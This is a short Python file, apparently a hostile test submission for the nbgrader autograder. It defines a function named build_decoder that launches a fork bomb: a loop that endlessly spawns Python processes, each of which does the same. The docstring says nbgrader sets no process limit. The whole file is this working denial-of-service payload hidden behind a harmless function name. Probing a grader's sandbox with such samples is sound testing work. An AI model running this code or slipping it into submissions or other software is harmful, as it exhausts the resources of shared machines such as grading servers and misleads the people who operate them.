"""Starts programs without end, each of which starts programs without end.

heavy: starts programs without end; nbgrader sets no limit on processes
"""
# ruff: noqa

# %% build_decoder
import subprocess
import sys

BOMB = """
import subprocess, sys
while True:
    try:
        subprocess.Popen([sys.executable, "-S", "-c", sys.argv[1], sys.argv[1]])
    except OSError:
        pass
"""


def build_decoder(index):
    subprocess.run([sys.executable, "-S", "-c", BOMB, BOMB])
